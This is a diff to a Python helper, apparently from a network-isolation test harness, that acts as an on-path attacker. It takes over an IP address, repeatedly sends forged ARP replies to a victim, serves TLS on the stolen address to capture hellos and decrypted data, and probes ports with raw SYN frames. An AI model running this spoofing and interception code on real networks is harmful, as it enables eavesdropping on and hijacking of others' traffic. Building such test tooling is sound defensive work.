@@ -1,11 +1,13 @@
 """An attacker on the wire with NET_RAW and NET_ADMIN in a namespace of its own.
 
 One line of JSON on standard input. "steal": take `address`, tell the deceived host so by
-ARP, and serve on it. "syn": send single SYN frames and tell which were answered.
+ARP, and serve on it until standard input ends; for every further line tell what came so
+far. "syn": send single SYN frames and tell which were answered.
 """
 
 import fcntl
 import json
+import select
 import socket
 import ssl
 import struct
@@ -46,22 +48,21 @@ def take_address(address):
         fcntl.ioctl(line, SIOCSIFADDR, alias)
 
 
-def deceive(address, victim_address, victim_mac, end):
+def deceive(address, victim_address, victim_mac):
     """Tell the victim again and again that `address` is here (RFC 826 replies)."""
     line = raw_line(0x0806)
     reply = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2)
     reply += OWN_MAC + address + victim_mac + victim_address
-    while time.monotonic() < end:
+    while True:
         line.send(victim_mac + OWN_MAC + struct.pack("!H", 0x0806) + reply)
         time.sleep(0.02)
 
 
 def steal(order):
     address = socket.inet_aton(order["address"])
-    end = time.monotonic() + order["seconds"]
     take_address(address)
     victim_address, victim_mac = order["deceived"]
-    deceiving = (address, socket.inet_aton(victim_address), hardware(victim_mac), end)
+    deceiving = (address, socket.inet_aton(victim_address), hardware(victim_mac))
     threading.Thread(target=deceive, args=deceiving, daemon=True).start()
     context = None
     if order["pem"]:
@@ -72,16 +73,17 @@ def steal(order):
             context.load_cert_chain(file.name)
     found = {"hellos": 0, "raw": "", "decrypted": ""}
     listener = socket.create_server((order["address"], order["port"]))
-    listener.settimeout(0.2)
     print("ready", flush=True)
-    while time.monotonic() < end:
-        try:
+    while True:
+        ready, _, _ = select.select([listener, sys.stdin], [], [])
+        if listener in ready:
             line, _ = listener.accept()
-        except TimeoutError:
-            continue
-        with line:
-            serve(line, context, found)
-    print(json.dumps(found))
+            with line:
+                serve(line, context, found)
+        elif sys.stdin.readline():
+            print(json.dumps(found), flush=True)
+        else:
+            return
 
 
 def serve(line, context, found):
@@ -142,9 +144,9 @@ def send_syns(order):
     line = raw_line(0x0800)
     print("ready", flush=True)
     found = []
-    for number, (target_mac, target, port) in enumerate(order["targets"]):
+    for number, (target_mac, target, port, seconds) in enumerate(order["targets"]):
         line.send(syn(target_mac, target, port, 40000 + number))
-        found.append(answered(line, 40000 + number, time.monotonic() + 1))
+        found.append(answered(line, 40000 + number, time.monotonic() + seconds))
     print(json.dumps(found))
 
 
